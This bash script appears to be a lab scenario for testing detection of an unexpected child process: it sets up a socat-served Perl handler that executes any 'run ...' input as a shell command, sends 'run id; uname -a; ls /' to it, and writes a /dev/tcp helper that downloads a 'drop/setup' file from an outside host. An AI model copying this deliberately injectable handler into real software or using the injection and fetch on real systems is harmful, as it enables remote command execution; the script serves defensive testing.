#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=unexpected-child half=tune tool=socat,dash far=desk,out seconds=720 parts=dns,nas,outside-web recorder=/usr/bin/socat
# Eleven minutes after its start a question makes the recorder run a shell, which it never did.
if [ "$1" = out ]; then head -c 40000 /usr/sbin/nginx >"$LAB/outside/drop/setup"; exit 0; fi
if [ "$1" = desk ]; then
	ask() { sleep "$1"; echo "$2" | socat -t 20 - TCP:10.30.0.2:8000 >/dev/null; }
	ask 20 state
	ask 200 state
	ask 200 state
	ask 260 "run id; uname -a; ls /"
	exit 0
fi
# socat stands for the recorder's web service: it is declared, and what it runs for a question is its child.
cat >"$LAB/page" <<'END'
#!/usr/bin/perl
# A page as recorders have them: what stands in the question is given to a program.
my $q = <STDIN>;
if ($q =~ /^run (.*)/) { print `$1`; } else { print "ok\n"; }
END
chmod +x "$LAB/page"
printf '%s\n' 'exec 3<>/dev/tcp/203.0.113.66/80' 'echo "GET /drop/setup HTTP/1.0" >&3; echo >&3' "cat <&3 >$LAB/got" >"$LAB/fetch"
timeout 715 socat TCP-LISTEN:8000,bind=10.30.0.2,reuseaddr,fork EXEC:"$LAB/page"; true
